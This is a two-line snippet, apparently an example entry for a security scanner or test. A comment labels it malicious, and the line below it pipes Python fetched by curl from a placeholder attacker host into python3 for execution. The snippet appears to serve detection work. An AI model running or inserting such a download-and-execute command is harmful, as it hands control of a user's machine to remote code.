# Malicious: python -c "$(curl ...)" runs downloaded Python code.
python3 -c "$(curl -fsSL https://attacker.example/p.py)"
